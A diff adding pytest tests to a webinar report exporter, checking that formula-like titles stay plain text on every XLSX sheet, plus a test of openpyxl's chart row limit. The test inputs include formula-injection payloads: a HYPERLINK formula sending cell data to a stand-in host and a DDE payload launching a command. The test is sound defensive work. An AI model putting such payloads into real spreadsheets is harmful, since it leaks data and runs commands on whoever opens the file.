@@ -151,3 +151,40 @@ def test_empty_session_still_makes_a_workbook(tmp_path, fake_marts, rows):
     assert counts["participants"] == 0
     wb = openpyxl.load_workbook(tmp_path / "r.xlsx")
     assert wb["Участники"].max_row == 2 and wb["Участники"]["A2"].value == "Имя"
+
+
+@pytest.mark.parametrize(
+    "title",
+    ['=HYPERLINK("http://evil.example/?"&A3,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)"],
+)
+def test_a_formula_like_title_stays_text_on_every_sheet(tmp_path, fake_marts, rows, title):
+    fake_marts([rows["participant"](1)])
+    render_session_xlsx(None, rows["session"](webinar_name=title), tmp_path / "r.xlsx")
+    wb = openpyxl.load_workbook(tmp_path / "r.xlsx")
+    # participants, connections, event, sources, devices: each titled by the webinar
+    assert len(wb.worksheets) == 5
+    for ws in wb.worksheets:
+        a1 = ws["A1"]
+        assert a1.data_type == "s" and a1.value.startswith(title + " · "), ws.title
+        assert a1.quotePrefix and a1.font.b, ws.title  # kept text when edited, still bold
+    with zipfile.ZipFile(tmp_path / "r.xlsx") as z:
+        for name in z.namelist():
+            if name.startswith("xl/worksheets/sheet"):
+                assert not re.search(rb"<f[ >]", z.read(name)), name
+
+
+def test_chart_row_limit_is_openpyxl_s():
+    """The event sheet charts minutes on rows 3…: openpyxl refuses a chart row past
+    1,000,000, so 999,998 minutes is the most a workbook can chart."""
+    from openpyxl import Workbook
+    from openpyxl.chart import Reference
+
+    from webstat.reports.xlsx import CHART_MAX_ROW, MAX_ATTENDANCE_MINUTES, ROW_HEADER
+
+    ws = Workbook().active
+    assert (CHART_MAX_ROW, MAX_ATTENDANCE_MINUTES) == (1_000_000, 999_998)
+    Reference(ws, min_col=5, min_row=ROW_HEADER, max_row=ROW_HEADER + MAX_ATTENDANCE_MINUTES)
+    with pytest.raises(ValueError, match="Max value is 1000000"):
+        Reference(
+            ws, min_col=5, min_row=ROW_HEADER, max_row=ROW_HEADER + MAX_ATTENDANCE_MINUTES + 1
+        )
